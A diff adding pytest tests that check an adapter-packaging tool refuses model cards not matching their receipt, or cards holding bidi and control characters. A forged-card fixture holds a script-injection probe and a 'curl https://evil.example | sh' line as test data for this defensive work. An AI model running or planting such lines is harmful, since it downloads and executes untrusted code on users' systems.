@@ -212,6 +212,58 @@ def test_a_receipt_that_says_something_else_is_refused(members, write, path, val
     refused(write(forge(members, changed(path, value))))
 
 
+OFFICIAL = (
+    b"# Official adapter\n\n<script>alert(1)</script> validation loss **0.001**\n\n`curl https://evil.example | sh`\n"
+)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda card: OFFICIAL,
+        lambda card: b"",
+        lambda card: card + b"\n",
+        lambda card: card + OFFICIAL,
+        lambda card: card.replace(b"\n", b"\r\n"),
+        lambda card: b"\xef\xbb\xbf" + card,
+        lambda card: b"\xff" + card,
+        lambda card: card.replace(b"1.250", b"0.250"),
+        lambda card: card.replace(b"---\n", b"---\nlicense: mit\n", 1),
+        lambda card: card.replace(b"lora-chat verify", b"lora-chat chat"),
+        lambda card: make_members(name="other-1")[CARD],
+        lambda card: make_members(license="MIT")[CARD],
+    ],
+)
+def test_a_card_that_is_not_that_of_the_receipt_is_refused(members, write, change):
+    card = change(members[CARD])
+    assert card != members[CARD]
+    heard = []
+    with pytest.raises(IntegrityError, match=r"README\.md is not the card"):
+        open_parcel(write(forge(members, **{CARD: card})), None, heard.append)
+    assert (heard[-1].name, heard[-1].passed) == ("card", False)
+
+
+@pytest.mark.parametrize(
+    ("letter", "harmless"),
+    [("🙂", True), ("\u0378", True), ("你", True), ("\u034f", True), ("\u00a0", True)]
+    + [(letter, False) for letter in "\u202e\u2066\x9b\x1b\x7f\r\u2028\u200d\ufeff\ue000"],
+)
+def test_a_card_may_show_a_letter_that_another_python_knows(write, letter, harmless):
+    """Python 3.12 prints letters of Unicode 15, which older ones write as escapes; no version prints the others."""
+    base = facts()["base"] | {"system": f"a{letter}b"}
+    members = make_members(base=base)
+    escape = letter.encode("unicode_escape").decode("ascii")
+    plain, escaped = (
+        members[CARD].decode().replace(f"a{other}b", f"a{this}b")
+        for other, this in ((escape, letter), (letter, escape))
+    )
+    assert open_parcel(write(forge(members, **{CARD: escaped.encode()})))
+    if harmless:
+        assert open_parcel(write(forge(members, **{CARD: plain.encode()})))
+    else:
+        refused(write(forge(members, **{CARD: plain.encode()})), "card")
+
+
 def test_a_receipt_has_one_spelling(members, write):
     receipt = json.loads(members[RECEIPT])
     for raw in (
